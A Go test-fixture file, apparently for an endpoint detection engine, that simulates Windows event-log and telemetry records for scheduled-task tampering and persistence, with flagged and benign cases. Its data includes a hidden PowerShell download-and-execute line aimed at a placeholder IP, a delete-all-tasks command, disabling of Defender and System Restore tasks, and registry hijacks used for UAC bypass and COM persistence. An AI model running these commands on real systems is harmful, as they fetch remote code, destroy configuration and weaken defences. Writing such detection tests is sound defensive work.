package behaviours

import "time"

// changed is what becomes of tasks that are there already.
func changed() []facet {
	var list []facet
	add := func(more ...facet) { list = append(list, more...) }
	const dropper = `C:\Users\mira\AppData\Local\Temp\dropper.exe`
	good := tsk{path: `\Contoso\Sync`, author: "Contoso", command: `C:\Program Files\Contoso @HOST@\sync.exe`}
	bad := good
	bad.command, bad.args = "powershell.exe", `-w hidden -nop -c iex(iwr http://203.0.113.7/@HOST@a)`
	raised := good
	raised.principal = asLocal
	guid := tasksKey + `\{0A1B2C3D-0000-4000-8000-0000000000C4}`

	// B24
	add(hit("b24-4702", func(h *host) { h.registered4698(good); h.wait(time.Hour).updated4702(bad) }))
	add(hit("b24-4702-alone", func(h *host) { h.updated4702(bad) }))
	add(hit("b24-principal-4702", func(h *host) { h.registered4698(good); h.wait(time.Hour).updated4702(raised) }).low())
	add(hit("b24-140-windows", func(h *host) {
		h.scheduler(140, "TaskName", `\Microsoft\Windows\Defrag\ScheduledDefrag`, "UserName", `LAB\mira`)
	}).low())
	add(hit("b24-140-run", func(h *host) {
		h.scheduler(140, "TaskName", good.path, "UserName", `LAB\mira`)
		h.scheduler(110, "TaskName", good.path, "InstanceId", "{ab000000-0000-4000-8000-000000000024}", "UserContext", `LAB\mira`)
		h.scheduler(200, "TaskName", good.path, "ActionName", `C:\Users\Public\@HOST@\r.exe`, "TaskInstanceId", "{ab000000-0000-4000-8000-000000000024}", "EnginePID", "4321")
	}))
	add(hit("b24-mde-updated", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", good, true)
		h.wait(time.Hour).scheduledRow("ScheduledTaskUpdated", bad, true)
	}))
	add(hit("b24-mde-names-only", func(h *host) {
		h.scheduledRow("ScheduledTaskUpdated", good, false)
		h.wait(30 * time.Second).startedRow(process{image: `C:\Users\Public\@HOST@\r.exe`})
	}))
	add(hit("b24-sysmon", func(h *host) {
		h.set(service, "SetValue", guid+`\Actions`, "Binary Data")
		h.wrote(service, `C:\Windows\System32\Tasks\Contoso\Sync`, `NT AUTHORITY\SYSTEM`)
		h.wait(time.Minute).started1(process{image: `C:\Users\Public\@HOST@\r.exe`})
	}))
	add(quiet("b24-version-4702", func(h *host) {
		t := good
		t.command = `C:\Program Files\Contoso @HOST@\1.2.3\sync.exe`
		h.registered4698(t)
		t.command = `C:\Program Files\Contoso @HOST@\1.2.4\sync.exe`
		h.wait(time.Hour).updated4702(t)
	}))
	add(quiet("b24-trigger-4702", func(h *host) {
		t := tsk{path: `\Microsoft\Windows\UpdateOrchestrator\Schedule Scan`, author: "$(@%systemRoot%\\system32\\usosvc.dll,-101)", command: `%systemroot%\system32\usoclient.exe`, args: "StartScan", principal: asLocal}
		h.updated4702(t, "SubjectUserSid", "S-1-5-18", "SubjectUserName", "PC1$", "SubjectLogonId", "0x3e7")
		t.trigger = logon
		h.wait(time.Hour).updated4702(t, "SubjectUserSid", "S-1-5-18", "SubjectUserName", "PC1$", "SubjectLogonId", "0x3e7")
	}))

	// B25
	add(hit("b25-4702", func(h *host) {
		h.registered4698(good)
		h.wait(time.Hour).updated4702(bad)
		h.wait(3 * time.Minute).updated4702(good)
	}))
	add(hit("b25-plain-4702", func(h *host) {
		t := good
		t.command = `C:\Program Files\Contoso @HOST@\other.exe`
		h.registered4698(good)
		h.wait(time.Hour).updated4702(t)
		h.wait(3 * time.Minute).updated4702(good)
	}))
	add(hit("b25-scheduler", func(h *host) {
		h.scheduler(140, "TaskName", good.path, "UserName", `LAB\mira`)
		h.scheduler(110, "TaskName", good.path, "InstanceId", "{ab000000-0000-4000-8000-000000000025}", "UserContext", `LAB\mira`)
		h.scheduler(200, "TaskName", good.path, "ActionName", `C:\Windows\Temp\r.exe`, "TaskInstanceId", "{ab000000-0000-4000-8000-000000000025}", "EnginePID", "4321")
		h.wait(time.Minute).scheduler(140, "TaskName", good.path, "UserName", `LAB\mira`)
	}))
	add(hit("b25-mde", func(h *host) {
		h.scheduledRow("ScheduledTaskUpdated", good, false)
		h.wait(20 * time.Second).startedRow(process{image: `C:\ProgramData\@HOST@\r.exe`, system: true})
		h.wait(time.Minute).scheduledRow("ScheduledTaskUpdated", good, false)
	}).low())

	// B26
	two := tsk{path: `\Contoso\Two`, author: "Contoso", actions: `<Exec><Command>C:\Program Files\Contoso @HOST@\sync.exe</Command></Exec><Exec><Command>C:\ProgramData\@HOST@\x.exe</Command></Exec>`}
	add(hit("b26-4698", func(h *host) { h.registered4698(two) }))
	add(hit("b26-4702", func(h *host) { h.updated4702(two) }))
	add(hit("b26-xml", func(h *host) { t := two; t.path = `\ContosoTwo`; h.taskFile(t) }).of(`\ContosoTwo`))
	add(hit("b26-200", func(h *host) {
		for _, a := range []string{`C:\Program Files\Contoso @HOST@\sync.exe`, `C:\ProgramData\@HOST@\x.exe`} {
			h.scheduler(200, "TaskName", two.path, "ActionName", a, "TaskInstanceId", "{ab000000-0000-4000-8000-000000000026}", "EnginePID", "4321")
		}
	}).low())
	add(hit("b26-mde-created", func(h *host) {
		b := jsonText(map[string]any{"TaskName": two.path, "SubjectUserName": "mira", "TaskContent": jsonText(map[string]any{"Actions": map[string]any{"Exec": []any{map[string]any{"Command": `C:\Program Files\Contoso @HOST@\sync.exe`}, map[string]any{"Command": `C:\ProgramData\@HOST@\x.exe`}}}})})
		h.row("DeviceEvents", "ActionType", "ScheduledTaskCreated", "AdditionalFields", b, "InitiatingProcessFileName", "svchost.exe", "InitiatingProcessAccountName", "mira", "InitiatingProcessAccountSid", userSID)
	}))
	add(quiet("b26-mare-xml", func(h *host) {
		h.taskFile(tsk{path: `\Microsoft\Windows\Application Experience\MareBackup`, author: `$(@%SystemRoot%\system32\appraiser.dll,-502)`, principal: asLocal,
			actions: `<Exec><Command>%windir%\system32\compattelrunner.exe</Command><Arguments>-m:aeinv.dll -f:UpdateSoftwareInventoryW</Arguments></Exec><Exec><Command>%windir%\system32\compattelrunner.exe</Command><Arguments>-m:appraiser.dll -f:DoScheduledTelemetryRun</Arguments></Exec>`})
	}).of(`\Microsoft\Windows\Application Experience\MareBackup`))

	// B27
	target := tsk{path: `\Contoso\Agent`, author: "Contoso", principal: asLocal, command: `C:\Contoso\@HOST@\agent.exe`}
	add(hit("b27-sysmon11", func(h *host) {
		h.registered4698(target)
		h.wait(time.Hour).wrote(dropper, `C:\Contoso\@HOST@\agent.exe`, `LAB\mira`)
	}))
	add(hit("b27-mde-file", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", target, true)
		h.wait(time.Hour).wroteRow(dropper, `C:\Contoso\@HOST@\agent.exe`, "mira", userSID)
	}))
	add(hit("b27-script-mde-file", func(h *host) {
		t := target
		t.command, t.args = "powershell.exe", `-NoProfile -File "C:\Contoso\@HOST@\daily.ps1"`
		h.registered4698(t)
		h.wait(time.Hour).wroteRow(dropper, `C:\Contoso\@HOST@\daily.ps1`, "mira", userSID)
	}))
	add(hit("b27-hash-sysmon1", func(h *host) {
		h.started1(process{image: `C:\Contoso\@HOST@\agent.exe`, system: true, sha1: "1111111111111111111111111111111111111111"})
		h.wait(2 * time.Hour).started1(process{image: `C:\Contoso\@HOST@\agent.exe`, system: true, sha1: "2222222222222222222222222222222222222222"})
	}).low())
	add(hit("b27-hash-mde", func(h *host) {
		h.startedRow(process{image: `C:\Contoso\@HOST@\agent.exe`, system: true, sha1: "1111111111111111111111111111111111111111"})
		h.wait(2 * time.Hour).startedRow(process{image: `C:\Contoso\@HOST@\agent.exe`, system: true, sha1: "2222222222222222222222222222222222222222"})
	}).low())
	add(quiet("b27-update-mde", func(h *host) {
		agent := process{image: `C:\Contoso\@HOST@\agent.exe`, line: `C:\Contoso\@HOST@\agent.exe /run`, system: true}
		for _, sha := range []string{"1111111111111111111111111111111111111111", "2222222222222222222222222222222222222222"} {
			agent.sha1 = sha
			h.startedRow(agent)
		}
	}))
	add(quiet("b27-installer-mde-file", func(h *host) {
		t := target
		t.command = `C:\Program Files\Contoso @HOST@\agent.exe`
		h.scheduledRow("ScheduledTaskCreated", t, true)
		h.wait(time.Hour).wroteRow(`c:\windows\system32\msiexec.exe`, `C:\Program Files\Contoso @HOST@\agent.exe`, "system", "S-1-5-18")
	}))

	// B28
	com := tsk{path: `\ContosoCom`, actions: `<ComHandler><ClassId>{DEADBEEF-1111-2222-3333-444455556666}</ClassId></ComHandler>`}
	add(hit("b28-xml", func(h *host) { h.taskFile(com) }).of(`\ContosoCom`).low())
	add(hit("b28-4698", func(h *host) { h.registered4698(com) }).low())
	add(hit("b28-sysmon13", func(h *host) {
		h.set(dropper, "SetValue", `HKU\`+userSID+`\Software\Classes\CLSID\{0358B920-0AC7-461F-98F4-58E32CD89148}\InprocServer32\(Default)`, `C:\Users\mira\AppData\Roaming\@HOST@\x.dll`)
	}))
	add(hit("b28-classes-sysmon13", func(h *host) {
		h.set(dropper, "SetValue", `HKU\`+userSID+`_Classes\CLSID\{0358B920-0AC7-461F-98F4-58E32CD89148}\InprocServer32\(Default)`, `C:\Users\mira\AppData\Roaming\@HOST@\x.dll`)
	}))
	add(hit("b28-mde-registry", func(h *host) {
		h.setRow("RegistryValueSet", dropper, dropper, `HKEY_USERS\`+userSID+`_Classes\CLSID\{0358B920-0AC7-461F-98F4-58E32CD89148}\InprocServer32`, "", `C:\Users\mira\AppData\Roaming\@HOST@\x.dll`)
	}))
	add(hit("b28-sysmon7", func(h *host) {
		h.sysmon(7, "ProcessGuid", h.guid(7), "ProcessId", 6100, "Image", `C:\Windows\System32\taskhostw.exe`, "ImageLoaded", `C:\Users\mira\AppData\Roaming\@HOST@\x.dll`, "Signed", "false", "SignatureStatus", "Unavailable", "User", `LAB\mira`)
	}))
	add(hit("b28-mde-image", func(h *host) {
		h.row("DeviceImageLoadEvents", "ActionType", "ImageLoaded", "FileName", "x.dll", "FolderPath", `C:\Users\mira\AppData\Roaming\@HOST@\x.dll`, "InitiatingProcessFileName", "taskhostw.exe", "InitiatingProcessFolderPath", `c:\windows\system32\taskhostw.exe`, "InitiatingProcessId", 6100, "InitiatingProcessAccountName", "mira")
	}))
	add(quiet("b28-teams-mde-registry", func(h *host) {
		h.setRow("RegistryValueSet", `c:\users\mira\appdata\local\microsoft\teams\teams.exe`, "Teams.exe", `HKEY_USERS\`+userSID+`_Classes\CLSID\{19A6E644-14E6-4A60-B8D7-DD20610A871D}\InprocServer32`, "", `C:\Users\mira\AppData\Local\Microsoft\TeamsMeetingAddin\x64\Microsoft.Teams.AddinLoader.dll`)
	}))
	add(quiet("b28-system-sysmon7", func(h *host) {
		h.sysmon(7, "ProcessGuid", h.guid(7), "ProcessId", 6100, "Image", `C:\Windows\System32\taskhostw.exe`, "ImageLoaded", `C:\Windows\System32\wininet.dll`, "Signed", "true", "SignatureStatus", "Valid", "User", `LAB\mira`)
	}))
	// B29
	add(hit("b29-sysmon13", func(h *host) {
		h.set(dropper, "SetValue", `HKU\`+userSID+`\Environment\windir`, `cmd /c C:\Users\Public\@HOST@\r.exe &&REM `)
	}))
	add(hit("b29-mde-registry", func(h *host) {
		h.setRow("RegistryValueSet", dropper, dropper, `HKEY_USERS\`+userSID+`\Environment`, "windir", `cmd /c C:\Users\Public\@HOST@\r.exe &&REM `)
	}))
	add(hit("b29-sysmon1", func(h *host) {
		h.started1(process{image: shell, line: `cmd /c C:\Users\Public\@HOST@\r.exe &&REM \system32\cleanmgr.exe /autoclean /d C:`})
	}))
	add(quiet("b29-plain-mde-registry", func(h *host) {
		h.setRow("RegistryValueSet", `c:\windows\system32\setx.exe`, "setx PATH x", `HKEY_USERS\`+userSID+`\Environment`, "PATH", `C:\Tools`)
	}))
	// B30
	add(hit("b30-sysmon13", func(h *host) {
		h.set(dropper, "SetValue", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\TelemetryController\Fun\Command`, `C:\Users\Public\@HOST@\r.exe`)
	}))
	add(hit("b30-mde-registry", func(h *host) {
		h.setRow("RegistryValueSet", dropper, dropper, `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\TelemetryController\Fun`, "Command", `C:\Users\Public\@HOST@\r.exe`)
	}))
	runner := process{image: `C:\Users\Public\@HOST@\r.exe`, parent: `C:\Windows\System32\CompatTelRunner.exe`, parentLine: `C:\Windows\system32\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:abc.1`, system: true}
	add(hit("b30-sysmon1", func(h *host) { h.started1(runner) }))
	add(hit("b30-mde-process", func(h *host) { h.startedRow(runner) }))
	add(quiet("b30-genuine-sysmon1", func(h *host) {
		h.started1(process{image: powershell, line: `powershell.exe -ExecutionPolicy Restricted -Command Write-Host 'Final result: 1';`, parent: `C:\Windows\System32\CompatTelRunner.exe`, parentLine: runner.parentLine, system: true})
	}))
	add(quiet("b30-genuine-mde-registry", func(h *host) {
		h.setRow("RegistryValueSet", `c:\windows\winsxs\x\tiworker.exe`, "TiWorker.exe", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\TelemetryController\Appraiser`, "Command", `%windir%\system32\CompatTelRunner.exe -m:appraiser.dll`)
	}))
	// B31
	sr := tsk{path: `\Microsoft\Windows\SystemRestore\SR`}
	defender := tsk{path: `\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan`}
	add(hit("b31-4699", func(h *host) { h.security(4699, "TaskName", sr.path) }))
	add(hit("b31-4701", func(h *host) { h.security(4701, "TaskName", defender.path, "TaskContent", defender.xml()) }))
	add(hit("b31-141", func(h *host) { h.scheduler(141, "TaskName", sr.path, "UserName", `LAB\mira`) }))
	add(hit("b31-142", func(h *host) { h.scheduler(142, "TaskName", defender.path, "UserName", `LAB\mira`) }))
	add(hit("b31-mde-disabled", func(h *host) { h.scheduledRow("ScheduledTaskDisabled", defender, false) }))
	add(threeWays("b31", asks(`schtasks /Change /TN "Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan" /Disable`, shell))...)
	add(threeWays("b31-all", asks(`schtasks /delete /tn * /f`, shell))...)
	add(scripts("b31-script", `Disable-ScheduledTask -TaskPath "\Microsoft\Windows\SystemRestore\" -TaskName SR`)...)
	add(hit("b31-sysmon12", func(h *host) { h.set(service, "DeleteKey", treeKey+`\Microsoft\Windows\SystemRestore\SR`, "") }))
	add(quiet("b31-update-4699", func(h *host) {
		h.security(4699, "TaskName", `\Microsoft\Windows\UpdateOrchestrator\AC Power Download`, "SubjectUserSid", "S-1-5-18", "SubjectUserName", "PC1$", "SubjectLogonId", "0x3e7")
	}))
	// B32
	add(threeWays("b32", asks(`schtasks /run /tn "\Microsoft\Windows\DiskCleanup\SilentCleanup" /I`, shell))...)
	add(hit("b32-110", func(h *host) {
		h.scheduler(110, "TaskName", `\Contoso\Sync`, "InstanceId", "{ab000000-0000-4000-8000-000000000032}", "UserContext", `LAB\mira`)
		h.scheduler(200, "TaskName", `\Contoso\Sync`, "ActionName", `C:\Contoso\@HOST@\odd\sync.exe`, "TaskInstanceId", "{ab000000-0000-4000-8000-000000000032}", "EnginePID", "4321")
	}).low())
	add(hit("b32-4700", func(h *host) { h.security(4700, "TaskName", `\Contoso\Sync`, "TaskContent", bad.xml()) }))
	for _, f := range scripts("b32-script", `Start-ScheduledTask -TaskPath "\Microsoft\Windows\DiskCleanup\" -TaskName SilentCleanup`) {
		add(f.low())
	}
	add(quiet("b32-vendor-4688", func(h *host) {
		h.started4688(asks(`schtasks /run /tn "CCleanerSkipUAC - mira"`, `C:\Program Files\CCleaner\CCleaner64.exe`))
	}))
	return list
}
